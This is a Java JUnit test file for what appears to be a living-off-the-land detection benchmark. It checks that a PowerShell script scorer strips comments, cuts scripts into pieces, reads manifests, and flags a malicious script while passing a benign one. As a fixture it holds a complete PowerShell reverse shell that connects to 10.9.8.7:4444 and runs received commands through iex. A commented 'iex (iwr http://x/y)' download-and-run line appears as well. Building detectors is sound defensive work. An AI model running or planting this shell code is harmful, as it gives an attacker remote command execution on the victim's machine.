package org.gamekeeper.bench.lotl;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@link ScriptBlockScore} on scripts written for this test, not taken from any toolkit. */
class ScriptBlockScoreTest {

    @TempDir
    Path dir;

    private static final String SHELL = """
            <#
            .SYNOPSIS
            A reverse shell for the test.
            #>
            function Start-Back {
                # connect back
                Write-Verbose "connecting"
                $c = New-Object System.Net.Sockets.TCPClient('10.9.8.7', 4444)
                $s = $c.GetStream()
                [byte[]]$b = 0..65535|%{0}
                while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
                    $d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b, 0, $i)
                    $o = (iex $d 2>&1 | Out-String)
                    $r = ([text.encoding]::ASCII).GetBytes($o + 'PS ' + (pwd).Path + '> ')
                    $s.Write($r, 0, $r.Length)
                    $s.Flush()
                }
            }
            """;

    private static final String TIDY = """
            function Get-Tidy {
                param([string]$Folder)
                Get-ChildItem -Path $Folder -Filter *.tmp | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Measure-Object
            }
            """;

    @Test
    void stripsCommentsBlankLinesAndVerboseLinesAsEmpireDoes() {
        String s = ScriptBlockScore.stripped(SHELL);
        assertFalse(s.contains("SYNOPSIS"), s);
        assertFalse(s.contains("connect back"), s);
        assertFalse(s.contains("Write-Verbose"), s);
        assertFalse(s.contains("\n\n"), s);
        assertTrue(s.startsWith("function Start-Back {\n    $c = New-Object System.Net.Sockets.TCPClient"), s);
        assertEquals("a\n  b # kept", ScriptBlockScore.stripped("a\n\n<# x #>\n  b # kept\n   # gone\nwrite-debug \"z\""));
    }

    @Test
    void cutsAScriptIntoPiecesOfTenToTwentyThousandCharactersThatMakeItUpAgain() {
        String text = "x".repeat(95_001);
        List<String> pieces = ScriptBlockScore.pieces(text, 42);
        assertEquals(text, String.join("", pieces));
        for (int i = 0; i < pieces.size() - 1; i++) {
            int n = pieces.get(i).length();
            assertTrue(n >= 10_000 && n < 20_000, "piece " + i + " has " + n);
        }
        assertEquals(pieces, ScriptBlockScore.pieces(text, 42), "the same seed cuts the same way");
        assertEquals(List.of("short"), ScriptBlockScore.pieces("short", 1));
    }

    @Test
    void readsTheManifestsOfEachProjectAndRefusesAScriptThatIsNotThere() throws Exception {
        Path p = Files.createDirectories(dir.resolve("kit/Shells"));
        Files.writeString(p.resolve("Start-Back.ps1"), SHELL);
        Files.writeString(dir.resolve("kit/Get-Tidy.ps1"), TIDY);
        Files.writeString(dir.resolve("kit/OneLiner.ps1"), "<#\n.SYNOPSIS\nA one-liner kept in its help.\n#>\n# iex (iwr http://x/y)\n");
        Files.writeString(dir.resolve("kit/manifest-1.jsonl"), "{\"project\":\"kit\",\"path\":\"Shells/Start-Back.ps1\"}\n\n"
                + "{\"project\":\"kit\",\"path\":\"Get-Tidy.ps1\"}\n{\"project\":\"kit\",\"path\":\"Get-Tidy.ps1\"}\n"
                + "{\"project\":\"kit\",\"path\":\"OneLiner.ps1\"}\n");
        List<ScriptBlockScore.Script> s = ScriptBlockScore.scripts(dir);
        assertEquals(List.of("kit/Shells/Start-Back.ps1", "kit/Get-Tidy.ps1"), s.stream().map(ScriptBlockScore.Script::key).toList(),
                "a path listed twice is one script, a script of comments only none");
        Files.writeString(dir.resolve("kit/manifest-2.jsonl"), "{\"project\":\"kit\",\"path\":\"Missing.ps1\"}\n");
        IllegalStateException e = assertThrows(IllegalStateException.class, () -> ScriptBlockScore.scripts(dir));
        assertTrue(e.getMessage().contains("manifest-2.jsonl:1"), e.getMessage());
    }

    @Test
    void thePackFindsTheReverseShellAndNotTheTidyingScript() throws Exception {
        List<ScriptBlockScore.Script> scripts = List.of(new ScriptBlockScore.Script("kit", "Start-Back.ps1", SHELL),
                new ScriptBlockScore.Script("kit", "Get-Tidy.ps1", TIDY));
        Set<String> found = ScriptBlockScore.detect(LotlScore.Compiled.of(LotlScore.pack()), scripts, dir.resolve("work"));
        assertEquals(Set.of("kit/Start-Back.ps1"), found);
    }
}
